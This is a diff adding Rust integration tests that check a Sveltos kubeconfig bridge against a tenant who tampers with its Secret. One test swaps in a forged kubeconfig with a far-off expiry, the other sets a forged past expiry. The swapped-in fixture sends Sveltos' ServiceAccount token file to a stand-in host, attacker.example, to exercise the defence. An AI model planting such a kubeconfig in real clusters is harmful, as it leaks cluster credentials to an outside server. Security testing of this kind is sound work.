@@ -1,0 +1,275 @@
+//! Security review M2 end to end: a tenant who may patch Secrets in its own namespace (a Role allowing it, used
+//! with `kubectl --as`) rewrites the bridge's Secret of a cluster whose credential an exec plugin minted. What
+//! the bridge wrote is known from its private state, not from the Secret's annotations: a swapped kubeconfig with
+//! a forged expiry shows in the next plan and apply writes the plugin's credential back (judged by client-go,
+//! `kubectl config view --raw -o json`); a forged expiry alone makes no plugin run.
+#![cfg(unix)]
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
+use kube::api::{Api, ObjectMeta, PostParams};
+use serde_json::{Value as Json, json};
+use support::inventory::{
+    Inv, Plugin, apply_ok, bridge, exec_status, plan_clusters, state_clusters,
+};
+use support::{Cli, TestEnv, bin_dir, unique_namespace, write_executable};
+use tfsveltos::api::keys;
+use tfsveltos::bridge::sha256_hex;
+
+/// Where the profiles' access provider says the cluster is (the plugin's credential goes there).
+const SERVER: &str = "https://127.0.0.1:6443";
+
+/// A kubeconfig that has client-go read Sveltos' own ServiceAccount token from a file and send it to the
+/// tenant's server.
+const TOKEN_FILE_KUBECONFIG: &str = "apiVersion: v1\nkind: Config\n\
+    clusters: [{name: c, cluster: {server: 'https://attacker.example:6443'}}]\n\
+    users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]\n\
+    contexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n";
+
+/// A user allowed to read and patch Secrets in `ns` and nothing else (a Role and its RoleBinding).
+async fn tenant_of(inv: &Inv, ns: &str) -> String {
+    let user = format!("tenant-of-{ns}");
+    let meta = ObjectMeta {
+        name: Some("patch-secrets".into()),
+        namespace: Some(ns.into()),
+        ..Default::default()
+    };
+    let role = Role {
+        metadata: meta.clone(),
+        rules: Some(vec![PolicyRule {
+            api_groups: Some(vec![String::new()]),
+            resources: Some(vec!["secrets".into()]),
+            verbs: vec!["get".into(), "patch".into()],
+            ..Default::default()
+        }]),
+    };
+    let binding = RoleBinding {
+        metadata: meta,
+        role_ref: RoleRef {
+            api_group: Some("rbac.authorization.k8s.io".into()),
+            kind: "Role".into(),
+            name: "patch-secrets".into(),
+        },
+        subjects: Some(vec![Subject {
+            api_group: Some("rbac.authorization.k8s.io".into()),
+            kind: "User".into(),
+            name: user.clone(),
+            ..Default::default()
+        }]),
+    };
+    let pp = PostParams::default();
+    Api::<Role>::namespaced(inv.client.clone(), ns)
+        .create(&pp, &role)
+        .await
+        .expect("creating the tenant's Role");
+    Api::<RoleBinding>::namespaced(inv.client.clone(), ns)
+        .create(&pp, &binding)
+        .await
+        .expect("creating the tenant's RoleBinding");
+    user
+}
+
+/// `kubectl --as <user> -n <ns> ARGS` on the main control plane.
+fn as_tenant(user: &str, ns: &str, args: &[&str]) -> Output {
+    Command::new(bin_dir().join("kubectl"))
+        .arg("--kubeconfig")
+        .arg(&TestEnv::get().kubeconfig)
+        .args(["--as", user, "-n", ns])
+        .args(args)
+        .output()
+        .expect("running kubectl")
+}
+
+/// The tenant merge-patches its bridged Secret of cluster `name` with `patch`, which must succeed; and is refused
+/// what its Role does not grant (so the patch was made with the tenant's rights, not the admin's).
+fn tenant_patches(user: &str, ns: &str, name: &str, patch: &Json) {
+    let secret = format!("{name}-sveltos-kubeconfig");
+    let out = as_tenant(
+        user,
+        ns,
+        &[
+            "patch",
+            "secret",
+            &secret,
+            "--type",
+            "merge",
+            "-p",
+            &patch.to_string(),
+        ],
+    );
+    assert!(out.status.success(), "the tenant's patch: {out:?}");
+    let refused = as_tenant(user, ns, &["get", "sveltosclusters"]);
+    assert!(
+        !refused.status.success() && String::from_utf8_lossy(&refused.stderr).contains("forbidden"),
+        "the tenant is not confined to its Role: {refused:?}"
+    );
+}
+
+/// The bridge `ns` with `providers_file`, each of `providers` allowed in `ns` for [`SERVER`] only.
+fn exec_bridge(ns: &str, providers_file: &Path, providers: &[&str]) -> String {
+    let allowed: Vec<String> = providers
+        .iter()
+        .map(|p| format!("{p} = {{ namespaces = [\"{ns}\"], servers = [\"127.0.0.1:6443\"] }}"))
+        .collect();
+    bridge(
+        ns,
+        &[ns],
+        &format!(
+            "  credentials {{\n    exec_providers_file = \"{}\"\n    exec_providers = {{\n      {}\n    }}\n  }}",
+            providers_file.display(),
+            allowed.join("\n      ")
+        ),
+    )
+}
+
+/// What client-go makes of `bytes` as a kubeconfig file (`kubectl config view --raw -o json`).
+fn client_go_view(dir: &Path, bytes: &[u8]) -> Json {
+    let file = dir.join("bridged-kubeconfig");
+    std::fs::write(&file, bytes).unwrap();
+    let out = Command::new(bin_dir().join("kubectl"))
+        .args(["config", "view", "--raw", "-o", "json", "--kubeconfig"])
+        .arg(&file)
+        .env_remove("KUBECONFIG")
+        .output()
+        .expect("running kubectl");
+    assert!(out.status.success(), "client-go cannot read it: {out:?}");
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+/// A tenant swaps the exec-minted kubeconfig of its cluster for a `tokenFile` one and sets the expiry annotation
+/// to 2099: the next plan shows the change (a credential minted at apply, `kubeconfig_sha256` unknown), apply
+/// runs the plugin once and writes its credential back (client-go reads the plugin's token for the profile's
+/// server, no file), the state records that kubeconfig's hash, and the following plan is empty.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_swapped_exec_kubeconfig_with_a_forged_expiry_is_shown_and_written_back() {
+    let inv = Inv::new().await;
+    let ns = unique_namespace(&inv.client, "swap").await;
+    let scratch = tempfile::tempdir().unwrap();
+    let plugin = Plugin::write(scratch.path(), 3600, &[("tok", None)]);
+    inv.profile(&ns, "t2", &[], exec_status("tok", SERVER, json!([])))
+        .await;
+    let tenant = tenant_of(&inv, &ns).await;
+    let tf = inv.tf(
+        &Cli::tofu(),
+        &exec_bridge(&ns, &plugin.providers_file, &["tok"]),
+    );
+    apply_ok(&tf);
+    assert_eq!(plugin.runs().len(), 1, "{:?}", plugin.runs());
+    let key = format!("{ns}/t2");
+
+    tenant_patches(
+        &tenant,
+        &ns,
+        "t2",
+        &json!({"stringData": {"kubeconfig": TOKEN_FILE_KUBECONFIG},
+            "metadata": {"annotations": {keys::EXPIRES_ANNOTATION: "2099-01-01T00:00:00Z"}}}),
+    );
+    let swapped = inv.bridged_kubeconfig(&ns, "t2").await.unwrap();
+    assert_eq!(swapped, TOKEN_FILE_KUBECONFIG.as_bytes());
+    let (out, planned) = plan_clusters(&tf);
+    assert!(
+        planned[&key]["kubeconfig_sha256"].is_null()
+            && out.contains("kubeconfig_sha256")
+            && out.contains("(known after apply)"),
+        "the swap is not in the plan:\n{out}"
+    );
+    assert_eq!(plugin.runs().len(), 1, "plan ran the plugin");
+    apply_ok(&tf);
+    assert_eq!(plugin.runs().len(), 2, "{:?}", plugin.runs());
+
+    let written = inv.bridged_kubeconfig(&ns, "t2").await.unwrap();
+    let view = client_go_view(scratch.path(), &written);
+    let user = &view["users"][0]["user"];
+    let fields: Vec<&String> = user.as_object().unwrap().keys().collect();
+    assert_eq!(fields, ["token"], "what client-go reads: {view}");
+    assert!(
+        user["token"].as_str().unwrap().starts_with("token-"),
+        "{view}"
+    );
+    assert_eq!(view["clusters"][0]["cluster"]["server"], SERVER, "{view}");
+    assert_eq!(
+        state_clusters(&tf)[&key]["kubeconfig_sha256"],
+        sha256_hex(&written),
+        "the state does not record what the bridge wrote"
+    );
+    assert_eq!(tf.plan(), 0, "the plan after the rewrite");
+    assert_eq!(plugin.runs().len(), 2, "the plugin ran again");
+    tf.destroy();
+}
+
+/// An exec plugin that answers a token without an expiry (the bridge then writes no expiry annotation, so the
+/// tenant's stays): its runs are logged to `runs.log` in `dir`; the returned providers file names it `noexp`
+/// next to `plugin`'s providers.
+fn add_plugin_without_expiry(dir: &Path, plugin: &Plugin) -> std::path::PathBuf {
+    let script = dir.join("noexp.sh");
+    let log = dir.join("noexp-runs.log");
+    write_executable(
+        &script,
+        &format!(
+            "#!/bin/sh\necho run >> '{}'\n\
+             printf '%s' '{{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"noexp-token\"}}}}'\n",
+            log.display()
+        ),
+    );
+    let mut file: Json =
+        serde_json::from_slice(&std::fs::read(&plugin.providers_file).unwrap()).unwrap();
+    file["providers"].as_array_mut().unwrap().push(json!({"name": "noexp", "execConfig": {
+        "apiVersion": "client.authentication.k8s.io/v1", "command": script.display().to_string()}}));
+    std::fs::write(&plugin.providers_file, file.to_string()).unwrap();
+    log
+}
+
+fn lines(path: &Path) -> usize {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .count()
+}
+
+/// A tenant sets the expiry annotation of its bridged Secrets in the past (the data untouched), for a credential
+/// with an expiry and one without: no plan shows a change, no apply runs a plugin, and the state keeps the expiry
+/// the plugin gave.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_expiry_alone_runs_no_plugin() {
+    let inv = Inv::new().await;
+    let ns = unique_namespace(&inv.client, "expiry").await;
+    let scratch = tempfile::tempdir().unwrap();
+    let plugin = Plugin::write(scratch.path(), 3600, &[("tok", None)]);
+    let noexp_log = add_plugin_without_expiry(scratch.path(), &plugin);
+    inv.profile(&ns, "timed", &[], exec_status("tok", SERVER, json!([])))
+        .await;
+    inv.profile(&ns, "untimed", &[], exec_status("noexp", SERVER, json!([])))
+        .await;
+    let tenant = tenant_of(&inv, &ns).await;
+    let body = exec_bridge(&ns, &plugin.providers_file, &["tok", "noexp"]);
+    let tf = inv.tf(&Cli::tofu(), &body);
+    apply_ok(&tf);
+    let runs = || (plugin.runs().len(), lines(&noexp_log));
+    assert_eq!(runs(), (1, 1));
+    let before = state_clusters(&tf);
+    let expiry = before[&format!("{ns}/timed")]["credential_expires_at"].clone();
+    assert!(expiry.is_string(), "{before:?}");
+
+    let past =
+        json!({"metadata": {"annotations": {keys::EXPIRES_ANNOTATION: "2000-01-01T00:00:00Z"}}});
+    for name in ["timed", "untimed"] {
+        tenant_patches(&tenant, &ns, name, &past);
+    }
+    assert_eq!(tf.plan(), 0, "a forged expiry shows as a change");
+    for _ in 0..2 {
+        apply_ok(&tf);
+        assert_eq!(runs(), (1, 1), "a forged expiry made a plugin run");
+    }
+    let after = state_clusters(&tf);
+    assert_eq!(
+        after[&format!("{ns}/timed")]["credential_expires_at"],
+        expiry
+    );
+    assert!(
+        after[&format!("{ns}/untimed")]["credential_expires_at"].is_null(),
+        "{after:?}"
+    );
+    tf.destroy();
+}
